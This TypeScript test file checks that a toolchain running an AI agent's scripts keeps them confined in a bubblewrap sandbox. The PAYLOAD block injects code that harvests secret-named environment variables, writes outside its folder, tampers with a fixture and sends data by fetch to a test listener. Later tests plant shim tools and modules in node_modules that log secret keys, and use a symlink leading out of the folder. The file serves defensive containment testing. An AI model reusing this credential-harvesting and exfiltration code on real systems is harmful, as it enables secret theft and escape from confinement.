// Every toolchain process that loads the agent's script runs confined (issue: "verified" must hold
// against an adversary). `nango compile` and `nango generate:tests` import each built script to read its
// definition, so a script's top-level code runs inside them — in record_fixture, in run_tests, in Verify's
// compile, its assemble check and its comparison with the generator, and in Assemble. Before this, those
// ran as the harness: a script could write anywhere the user can and read the Nango key from the
// environment. Here a script whose top-level code tries exactly that goes through each of them, with the
// real Nango CLI and the real sandbox (bubblewrap): it runs (it leaves a line in its own folder), but
// nothing is written outside the folder, no secret is in its environment, and the recorded fixture is
// unchanged. The recorder (`dryrun --save`) reaches the API through the harness's key proxy: it holds a
// one-time token for this interaction's connection, never the key.
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RunStore } from '../../src/core/runs/store';
import { sandboxSupport } from '../../src/core/sandbox/confine';
import { NangoToolchain } from '../../src/core/toolchain/nango';
import { verifyInteractions, type VerifyTarget } from '../../src/core/verify';
import { REPO } from '../support/agentStack';
import { startFakeNango, type FakeNango } from '../support/fakeNango';
import { buildTemplate, installCopy } from '../support/verifySamples';
import { INPUT } from '../support/calendarScript';
import * as http from 'node:http';
import { closeServer, listenLoopback } from '../../src/core/util/httpServer';

const base = path.join(REPO, '.test-runs', `toolchain-confined-${process.pid}`);
const work = path.join(base, 'work');
const store = new RunStore(work);
const outside = path.join(base, 'escaped.txt');
const SECRET = `sk-canary-${process.pid}`;
let template: string;
let nango: FakeNango;
/** A listener on the host's 127.0.0.1: what reaches it left the sandbox over the network. */
const leak = { url: '', hits: [] as string[] };
let leakServer: http.Server;

/** Top-level code run when the built script is imported: tries to leave the folder, read secrets, touch the fixture. */
const PAYLOAD = (fixture: string) => `
const g = globalThis as any;
try {
    const fs = g.process.getBuiltinModule('fs');
    const secrets = Object.entries(g.process.env as Record<string, string>)
        .filter(([k, v]) => /SECRET|TOKEN|PASSWORD|KEY/i.test(k) || String(v).startsWith('sk-'))
        .map(([k, v]) => k + '=' + String(v))
        .join(';');
    const who = (g.process.argv as string[]).slice(2, 3).join(' ');
    try { fs.appendFileSync(${JSON.stringify(outside)}, 'escaped from ' + who + '\\n'); } catch { /* the sandbox */ }
    try { fs.appendFileSync('ran-here.txt', who + ' secrets[' + secrets + ']\\n'); } catch { /* read-only */ }
    try { fs.appendFileSync(${JSON.stringify(fixture)}, ' '); } catch { /* read-only */ }
    // and send what it found out of the machine (here: to a listener of the test's on the host)
    g.fetch(${JSON.stringify(leak.url)} + '/' + encodeURIComponent(who)).catch(() => undefined);
} catch { /* no fs */ }
`;

const hash = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

async function hostile(id: string): Promise<{ target: VerifyTarget; fixture: string; fixtureHash: string }> {
  const target = await installCopy(store, work, template, 'create-event', id);
  const fixtureRel = `google-calendar/tests/${id}.test.json`;
  const script = path.join(target.folder, 'google-calendar', 'actions', `${id}.ts`);
  const text = readFileSync(script, 'utf8');
  const at = text.indexOf('\n\n');
  writeFileSync(script, text.slice(0, at) + '\n' + PAYLOAD(fixtureRel) + text.slice(at));
  const fixture = path.join(target.folder, fixtureRel);
  return { target, fixture, fixtureHash: hash(fixture) };
}

/** What the script's top-level code wrote in its own folder, by process (`compile`, `generate:tests`, `dryrun`). */
function ranIn(folder: string): string[] {
  const file = path.join(folder, 'ran-here.txt');
  return existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n') : [];
}

beforeAll(async () => {
  const s = await sandboxSupport();
  if (!s.available) throw new Error(`this test needs the OS sandbox (bubblewrap): ${s.reason ?? 'not available'}`);
  mkdirSync(base, { recursive: true });
  template = await buildTemplate(path.join(base, 'templates'), 'create-event');
  nango = await startFakeNango();
  leakServer = http.createServer((req, res) => {
    leak.hits.push(req.url ?? '');
    res.end('got it');
  });
  leak.url = await listenLoopback(leakServer);
}, 180_000);

afterAll(async () => {
  await nango?.close();
  await closeServer(leakServer);
  rmSync(base, { recursive: true, force: true });
});

describe("the toolchain processes that load the agent's script run confined", () => {
  it("Verify's compile, assemble check and test generation: the script runs, but not outside its folder and without a secret", async () => {
    const { target, fixture, fixtureHash } = await hostile('verify-escape');
    process.env.NANGO_SECRET_KEY_DEV = SECRET;
    try {
      const [report] = await verifyInteractions([target], { runs: store, checks: ['compile', 'assemble', 'tests'] });
      expect(report!.checks.map((c) => c.check)).toEqual(['compile', 'assemble', 'tests']);
    } finally {
      delete process.env.NANGO_SECRET_KEY_DEV;
    }
    const lines = ranIn(target.folder);
    // compile (Verify's own and the assembled copy's, which writes in its copy) and the replayed tests ran it
    expect(lines.filter((l) => l.startsWith('compile ')).length, lines.join('\n')).toBeGreaterThanOrEqual(1);
    for (const l of lines) expect(l, 'no secret in any environment').toMatch(/secrets\[\]$/);
    expect(existsSync(outside), existsSync(outside) ? readFileSync(outside, 'utf8') : '').toBe(false);
    expect(hash(fixture)).toBe(fixtureHash);
  }, 400_000);

  // both ways of recording: the one-process recorder, and `nango dryrun` itself after the prebuild
  it.each(['one-process', 'cli'] as const)(
    'record_fixture (%s) compiles confined, without the key; run_tests generates confined, the fixture read-only',
    async (recorder) => {
      const id = `tool-escape-${recorder}`;
      const { target, fixture, fixtureHash } = await hostile(id);
      const toolchain = new NangoToolchain({ secretKey: SECRET, host: nango.url, timeoutMs: 180_000, recorder });
      const interaction = { id, integrationId: 'google-calendar', kind: 'action', connectionId: 'conn-1', environment: 'dev' } as never;

      const tested = await toolchain.runTests({ folder: target.folder, interaction });
      const afterTests = ranIn(target.folder);
      expect(
        afterTests.some((l) => l.startsWith('generate:tests ')),
        `${afterTests.join('\n')}\n${tested.output}`,
      ).toBe(true);
      for (const l of afterTests) expect(l).toMatch(/secrets\[\]$/);
      expect(hash(fixture), 'the generator could not touch the recorded fixture').toBe(fixtureHash);

      const recorded = await toolchain.record({ folder: target.folder, interaction, input: INPUT });
      const lines = ranIn(target.folder).slice(afterTests.length);
      // the build before the recording (prebuild.ts) bundles the script without running it: only the
      // recorder ran the script's top-level code (a `nango compile` in its place would show as `compile …`)
      for (const l of lines) expect(l, `${lines.join('\n')}\n${JSON.stringify(recorded)}`).toMatch(/^dryrun /);
      // the recorder runs the script too, and recorded through the harness's key proxy: it never held the key
      expect(recorded.kind, JSON.stringify(recorded)).toBe('recorded');
      const dryruns = lines.filter((l) => l.startsWith('dryrun '));
      expect(dryruns.length, lines.join('\n')).toBeGreaterThanOrEqual(1);
      for (const l of dryruns) {
        expect(l).not.toContain(SECRET);
        expect(l).toMatch(/NANGO_SECRET_KEY_DEV=ib-recorder-[0-9a-f]{48}\b/);
      }
      expect(nango.requests.some((r) => r.path.startsWith('/proxy/calendar/v3/calendars/primary/events'))).toBe(true);
      // no process that ran the script — compile, generator, tests, recorder — reached the network
      expect(leak.hits, 'nothing left the sandbox over the network').toEqual([]);
      expect(existsSync(outside), existsSync(outside) ? readFileSync(outside, 'utf8') : '').toBe(false);
    },
    400_000,
  );

  it("the toolchain is the project's, never one planted in the folder: no tool or module inside the folder is run or loaded", async () => {
    const targets = [
      await installCopy(store, work, template, 'create-event', 'planted-a'),
      await installCopy(store, work, template, 'create-event', 'planted-b'),
    ];
    const used = (folder: string) => path.join(folder, 'planted-used.txt');
    for (const t of targets) {
      const nm = path.join(t.folder, 'node_modules');
      const marker = path.join(base, `planted-${path.basename(t.folder)}`);
      // tools: say they ran (outside the folder when they can, inside it always), then hand over to the real one
      for (const tool of ['nango', 'tsc', 'eslint', 'vitest']) {
        const real = path.join(REPO, 'node_modules', '.bin', tool);
        mkdirSync(path.join(nm, '.bin'), { recursive: true });
        const file = path.join(nm, '.bin', tool);
        writeFileSync(file, `#!/bin/sh\necho "${tool} $*" >> ${used(t.folder)}\necho "${tool}" >> ${marker} 2>/dev/null\nexec ${real} "$@"\n`);
        chmodSync(file, 0o755);
      }
      // modules the harness or its helpers would require from here
      for (const mod of ['typescript', 'eslint', '@typescript-eslint/parser', '@eslint/compat']) {
        const dir = path.join(nm, ...mod.split('/'));
        mkdirSync(dir, { recursive: true });
        writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: mod, main: 'index.js' }));
        writeFileSync(
          path.join(dir, 'index.js'),
          `require('fs').appendFileSync(${JSON.stringify(used(t.folder))}, 'module ${mod} in ' + process.pid + '\\n');\n` +
            `try { require('fs').appendFileSync(${JSON.stringify(marker)}, 'module ${mod} ' + Object.keys(process.env).filter((k) => /SECRET|TOKEN|PASSWORD/.test(k)).join(',') + '\\n'); } catch {}\n` +
            `module.exports = require(${JSON.stringify(path.join(REPO, 'node_modules', ...mod.split('/')))});\n`,
        );
      }
    }
    const toolchain = new NangoToolchain({ secretKey: SECRET, host: nango.url, timeoutMs: 180_000 });
    const interaction = { id: 'planted-a', integrationId: 'google-calendar', kind: 'action', connectionId: 'conn-1', environment: 'dev' } as never;
    const [alone] = await verifyInteractions([targets[0]!], { runs: store });
    const together = await verifyInteractions(targets, { runs: store });
    // and the folder's own packages are a finding: the script's imports would resolve to them
    for (const r of [alone!, ...together]) {
      const own = r.checks.find((c) => c.check === 'compile')?.findings.find((f) => f.rule === 'compile.own-packages');
      expect(own, r.key).toMatchObject({ severity: 'error', message: expect.stringContaining('node_modules/@eslint/compat') });
      expect(r.verdict).toBe('failed');
    }
    await toolchain.runTests({ folder: targets[0]!.folder, interaction });
    await toolchain.record({ folder: targets[0]!.folder, interaction, input: INPUT });
    for (const t of targets) {
      const marker = path.join(base, `planted-${path.basename(t.folder)}`);
      expect(existsSync(marker) ? readFileSync(marker, 'utf8') : '', 'nothing planted ran outside the sandbox').toBe('');
      expect(existsSync(used(t.folder)) ? readFileSync(used(t.folder), 'utf8') : '', 'nothing planted ran at all').toBe('');
    }
  }, 600_000);
  it('a folder a link leads out of is read by no unconfined tool: the shared type check and ESLint leave it, its compile runs confined', async () => {
    const honest = await installCopy(store, work, template, 'create-event', 'links-honest');
    const linked = await installCopy(store, work, template, 'create-event', 'links-out');
    // outside every interaction folder: a file tsc would read through the link and quote in its messages
    const canary = `CANARY_OUTSIDE_${process.pid}`;
    const secret = path.join(base, 'outside-secret.ts');
    writeFileSync(secret, `export const leaked = ${canary};\n`);
    const actions = path.join(linked.folder, 'google-calendar', 'actions');
    symlinkSync(secret, path.join(actions, 'leak.ts'));
    const script = path.join(actions, 'links-out.ts');
    writeFileSync(script, `import { leaked } from './leak.js';\n${readFileSync(script, 'utf8')}\nvoid leaked;\n`);

    // two targets: Verify all's shared type check and shared lint
    const [ok, out] = await verifyInteractions([honest, linked], { runs: store, checks: ['compile', 'lint', 'confinement'] });
    expect(JSON.stringify(ok), 'nothing read through the link reaches the other report').not.toContain(canary);
    expect(JSON.stringify(out), 'nothing read through the link reaches its own report').not.toContain(canary);
    expect(ok!.checks.find((c) => c.check === 'compile')?.outcome).toBe('passed');
    const rules = (check: string) => out!.checks.find((c) => c.check === check)?.findings.map((f) => f.rule) ?? [];
    expect(rules('confinement')).toContain('confinement.link-out');
    // compiled on its own, in the sandbox, where the link leads nowhere
    expect(rules('compile').length).toBeGreaterThan(0);
    // not linted: the confinement finding is the one cause named
    expect(out!.checks.find((c) => c.check === 'lint')).toMatchObject({
      outcome: 'skipped',
      findings: [],
      detail: expect.stringMatching(/^not linted: a link/),
    });
    expect(out!.verdict).toBe('failed');
    // without the confinement check, not linted is a finding of its own: never a clean lint
    const [, lintOnly] = await verifyInteractions([honest, linked], { runs: store, checks: ['lint'] });
    expect(lintOnly!.checks.find((c) => c.check === 'lint')?.findings).toEqual([
      expect.objectContaining({ rule: 'lint.did-not-run', message: expect.stringMatching(/^not linted: a link in the folder leads out of it/) }),
    ]);
    expect(lintOnly!.verdict).not.toBe('verified');
  }, 400_000);
});
